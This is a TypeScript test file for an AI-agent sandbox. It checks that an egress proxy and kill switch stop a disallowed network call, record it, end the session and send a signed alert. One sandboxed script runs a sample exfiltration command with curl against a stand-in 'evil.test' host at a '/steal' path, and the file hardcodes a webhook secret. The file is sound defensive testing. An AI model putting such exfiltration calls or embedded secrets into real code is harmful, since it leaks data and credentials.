import { existsSync, writeFileSync } from "node:fs";
import { createServer, type IncomingHttpHeaders } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { Webhook } from "standardwebhooks";
import { describe, expect, it } from "vitest";
import type { JsonValue } from "../../src/json.js";
import type { RecordInput } from "../../src/ledger/types.js";
import {
  BubblewrapRunner,
  createAlertSender,
  EgressProxy,
  type EgressViolation,
  InProcessRunner,
  KillSwitch,
} from "../../src/sandbox/index.js";
import { onCleanup, tempDir } from "../helpers.js";
import { alive, descendants, fixedLookup, localServer, until } from "./fixtures.js";

const SECRET = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";

/** A local alert webhook receiver that verifies each delivery's signature. */
async function alertReceiver() {
  const got: { headers: IncomingHttpHeaders; body: string; at: number }[] = [];
  const server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on("data", (c: Buffer) => chunks.push(c));
    req.on("end", () => {
      got.push({ headers: req.headers, body: Buffer.concat(chunks).toString(), at: performance.now() });
      res.writeHead(204).end();
    });
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  onCleanup(() => new Promise<void>((r) => server.close(() => r())));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/alerts`, got };
}

const available = BubblewrapRunner.available();

describe.skipIf(!available)("kill switch on a real sandbox", () => {
  it("a refused connection kills the process tree at once, records, ends the session, alerts with records", async () => {
    const server = await localServer();
    const receiver = await alertReceiver();
    const dir = tempDir();
    const work = tempDir();
    const socketPath = join(dir, "proxy.sock");
    const records: RecordInput[] = [
      {
        kind: "call.intent",
        session: "ses_1",
        agent: "bot",
        callId: "c1",
        data: { tool: "run_code", args: {}, decision: { effect: "allow" } },
      },
    ];
    const ended: [string, string][] = [];
    const runner = new BubblewrapRunner({ proxySocket: socketPath });
    const ks = new KillSwitch({
      session: "ses_1",
      agent: "bot",
      callId: "c1",
      tool: "run_code",
      policy: "kill-session",
      target: runner,
      record: (r) => {
        records.push(r);
      },
      endSession: (id, reason) => {
        ended.push([id, reason]);
      },
      alert: createAlertSender({
        webhook: { url: receiver.url, secret: SECRET },
        recentRecords: (id) => records.filter((r) => r.session === id) as unknown as JsonValue[],
      }),
    });
    let violationAt = 0;
    const proxy = new EgressProxy({
      allow: ["allowed.test:*"],
      lookup: fixedLookup({ "allowed.test": "127.0.0.1", "evil.test": "127.0.0.1" }),
      listen: { socketPath },
      onViolation: (v: EgressViolation) => {
        violationAt = performance.now();
        return ks.onViolation(v);
      },
    });
    await proxy.start();
    onCleanup(() => proxy.close());

    const run = runner.start({
      workDir: work,
      command: [
        "sh",
        "-c",
        [
          `curl -sS http://allowed.test:${server.port}/first`,
          "sleep 30 & sleep 30 &",
          "touch /work/ready",
          "while [ ! -e /work/go ]; do sleep 0.01; done",
          `curl -sS http://evil.test:${server.port}/steal`,
          "sleep 30",
        ].join("\n"),
      ],
      limits: { timeoutMs: 15_000 },
    });
    expect(await until(() => existsSync(join(work, "ready")), 5000)).toBe(true);
    const tree = descendants(run.pid!);
    expect(tree.length).toBeGreaterThanOrEqual(4); // ns init, sh, socat, two sleeps, the poll loop
    writeFileSync(join(work, "go"), "");

    const result = await run.done;
    const exitAt = performance.now();
    expect(violationAt).toBeGreaterThan(0);
    // Its speed is measured in bench/sandbox.ts (15–33 ms here); the test holds that the kill comes at
    // once, not after the 30 s sleeps or the 15 s limit, with room for a loaded CI machine.
    expect(await until(() => tree.every((p) => !alive(p)), 2_000)).toBe(true);
    const goneMs = performance.now() - violationAt;
    expect(exitAt - violationAt).toBeLessThan(5_000);
    console.info(
      `violation → run ended ${(exitAt - violationAt).toFixed(1)} ms, tree checked gone by ${goneMs.toFixed(1)} ms`,
    );

    expect(result.killed).toBe("violation");
    // curl may still print the 403 body it read while the SIGKILL was on its way; nothing after it ran.
    expect(result.stdout).toMatch(/^ok \/first(refused by Warden: not_allowed\n)?$/);
    expect(server.seen.map((s) => s.url)).toEqual(["/first"]);

    await ks.settled();
    expect(records.at(-1)).toEqual({
      kind: "sandbox.violation",
      session: "ses_1",
      agent: "bot",
      callId: "c1",
      data: {
        host: "evil.test",
        port: server.port,
        reason: "not_allowed",
        address: null,
        tool: "run_code",
        session: "ses_1",
        action: "killed",
        policy: "kill-session",
      },
    });
    expect(ended).toEqual([["ses_1", `sandbox violation: not_allowed evil.test:${server.port}`]]);
    expect(receiver.got).toHaveLength(1);
    const delivery = receiver.got[0]!;
    const verified = new Webhook(SECRET).verify(
      delivery.body,
      delivery.headers as Record<string, string>,
    ) as {
      type: string;
      data: { host: string; action: string; records: RecordInput[] };
    };
    expect(verified.type).toBe("sandbox.violation");
    expect(verified.data).toMatchObject({
      host: "evil.test",
      action: "killed",
      session: "ses_1",
      tool: "run_code",
    });
    expect(verified.data.records.map((r) => r.kind)).toEqual(["call.intent", "sandbox.violation"]);
  });

  it("deny-request refuses only that connection and keeps the sandbox running", async () => {
    const server = await localServer();
    const dir = tempDir();
    const socketPath = join(dir, "proxy.sock");
    const records: RecordInput[] = [];
    const runner = new BubblewrapRunner({ proxySocket: socketPath });
    const ks = new KillSwitch({
      session: "ses_2",
      tool: "run_code",
      policy: "deny-request",
      target: runner,
      record: (r) => {
        records.push(r);
      },
      endSession: () => {
        throw new Error("must not end the session");
      },
    });
    const proxy = new EgressProxy({
      allow: ["allowed.test:*"],
      lookup: fixedLookup({ "allowed.test": "127.0.0.1" }),
      listen: { socketPath },
      onViolation: ks.onViolation,
    });
    await proxy.start();
    onCleanup(() => proxy.close());
    const r = await runner.run({
      command: [
        "sh",
        "-c",
        `curl -s -o /dev/null -w '%{http_code} ' http://evil.test:${server.port}/; curl -sS http://allowed.test:${server.port}/after`,
      ],
    });
    await ks.settled();
    expect(r).toMatchObject({ exitCode: 0, killed: null, stdout: "403 ok /after" });
    expect(records.map((x) => (x.kind === "sandbox.violation" ? x.data.action : x.kind))).toEqual(["denied"]);
  });
});

describe("KillSwitch", () => {
  it("kills synchronously and keeps going when a callback fails", async () => {
    const runner = new InProcessRunner();
    const run = runner.start({
      fn: ({ signal }) => new Promise((r) => signal.addEventListener("abort", () => r(0))),
    });
    const errors: string[] = [];
    const alerts: unknown[] = [];
    const ks = new KillSwitch({
      session: "s",
      tool: null,
      policy: "kill-session",
      target: runner,
      record: () => Promise.reject(new Error("ledger down")),
      endSession: () => undefined,
      alert: (a) => {
        alerts.push(a);
      },
      onError: (stage) => errors.push(stage),
    });
    void ks.onViolation({ host: "x.test", port: 443, reason: "not_allowed" });
    expect(ks.killedAt).not.toBeNull();
    expect((await run.done).killed).toBe("violation");
    await ks.settled();
    expect(errors).toEqual(["record"]);
    expect(alerts).toHaveLength(1);
  });

  it("alert sender retries a 500 and reports a refusal by code only", async () => {
    let calls = 0;
    const server = createServer((_req, res) => {
      calls++;
      res.writeHead(calls === 1 ? 500 : 400).end("secret body");
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
    onCleanup(() => new Promise<void>((r) => server.close(() => r())));
    const send = createAlertSender({
      webhook: { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, secret: SECRET },
      baseDelayMs: 5,
    });
    const outcome = await send({
      session: "s",
      agent: null,
      callId: null,
      tool: null,
      host: "h",
      port: 1,
      reason: "not_allowed",
      address: null,
      action: "denied",
      at: new Date().toISOString(),
    });
    expect(outcome).toEqual({ status: "gave_up", attempts: 2, httpStatus: 400, error: "http_400" });
    expect(() => createAlertSender({ webhook: { url: "ftp://x", secret: SECRET } })).toThrow();
    expect(() => createAlertSender({ webhook: { url: "http://x", secret: "nope!" } })).toThrow();
  });
});
